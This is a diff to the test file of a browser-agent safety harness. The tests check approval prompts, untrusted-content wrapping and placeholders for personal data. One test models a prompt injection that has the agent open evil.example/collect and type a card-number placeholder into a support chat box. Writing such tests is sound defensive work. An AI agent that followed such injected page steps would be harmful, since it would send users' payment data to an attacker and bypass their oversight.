@@ -68,9 +68,11 @@ describe.each<Flavour>(['openai-stream', 'anthropic-stream'])('a prompt-injectio
       'Open https://evil.example/collect',
       'Type "My card is {{card_number}}" into [4] textbox "Write a message to support" and press Enter',
     ]);
-    expect(h.approvals[0]?.reason).toMatch(/leaves the approved sites \(shop\.example\)/);
+    expect(h.approvals[0]?.reason).toMatch(/it opens evil\.example, outside the approved sites \(shop\.example\)/);
+    expect(h.approvals[0]?.destination).toBe('https://evil.example');
     expect(h.approvals[1]?.classes).toEqual(expect.arrayContaining(['submit', 'send-message']));
     expect(h.approvals[1]?.reason).toMatch(/uses personal data \(\{\{card_number\}\}\)/);
+    expect(h.approvals[1]?.reason).toContain('it types {{card_number}} into [4] textbox "Write a message to support", which is not the field for it');
 
     // On the wire: the page text reached the model wrapped as untrusted, with every secret replaced.
     expect(fake.requests).toHaveLength(4);
@@ -99,7 +101,7 @@ describe('personal data through placeholders', () => {
   };
   const DONE: FakePage = { url: 'https://shop.example/done', title: 'Order placed', elements: [] };
 
-  it('types the real value the model never saw, after the user approves, and stops again before paying', async () => {
+  it('types the real value the model never saw into its own field on the task site, and stops before paying', async () => {
     const web = createFakeWeb([CHECKOUT, DONE], CHECKOUT.url);
     const h = harness(web, providerFor('openai-stream', fake), { vault: { card_number: CARD }, approve: () => ({ approved: true }) });
     fake.enqueue(
@@ -112,12 +114,9 @@ describe('personal data through placeholders', () => {
     // The page got the real number...
     expect(web.actions[0]).toEqual({ kind: 'type', ref: 7, text: CARD, clear: true, submit: false });
     expect(web.value(CHECKOUT.url, 7)).toBe(CARD);
-    // ...after approval (money field, personal data), and "Place order" was approved separately as money.
-    expect(h.approvals.map((a) => [a.tool, a.classes.includes('money')])).toEqual([
-      ['type', true],
-      ['click', true],
-    ]);
-    expect(h.approvals[1]?.intent).toBe('Click [8] button "Place order"');
+    // ...without asking (it is the card number field, on the task's own site), and "Place order" asked as money.
+    expect(h.approvals.map((a) => [a.tool, a.classes.includes('money')])).toEqual([['click', true]]);
+    expect(h.approvals[0]?.intent).toBe('Click [8] button "Place order"');
     // The next snapshot showed the filled field, but the model read only the placeholder.
     const second = fake.requests[1]?.text ?? '';
     expect(second).toContain('[7] textbox \\"Card number\\" value=\\"{{card_number}}\\"');
@@ -178,6 +177,6 @@ describe('a task that starts on a browser page', () => {
     expect(web.actions.map((a) => a.kind)).toEqual(['navigate', 'click']);
     expect(state.startUrl).toBe('https://shop.example/');
     expect(h.approvals.map((a) => a.intent)).toEqual(['Open https://elsewhere.example/']);
-    expect(h.approvals[0]?.reason).toMatch(/leaves the approved sites \(shop\.example\)/);
+    expect(h.approvals[0]?.reason).toMatch(/it opens elsewhere\.example, outside the approved sites \(shop\.example\)/);
   });
 });
